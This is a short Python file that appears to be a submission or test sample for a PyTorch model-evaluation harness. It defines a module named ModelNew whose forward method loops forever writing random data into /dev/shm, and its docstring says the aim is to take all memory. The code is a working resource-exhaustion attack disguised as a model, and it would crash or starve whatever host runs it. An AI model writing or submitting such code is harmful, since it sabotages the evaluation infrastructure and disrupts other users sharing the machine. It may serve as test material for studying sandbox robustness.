"""Takes all memory there is by way of files in memory."""

import os

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        with open("/dev/shm/full", "wb") as file:
            while True:
                file.write(os.urandom(1 << 20) * 64)
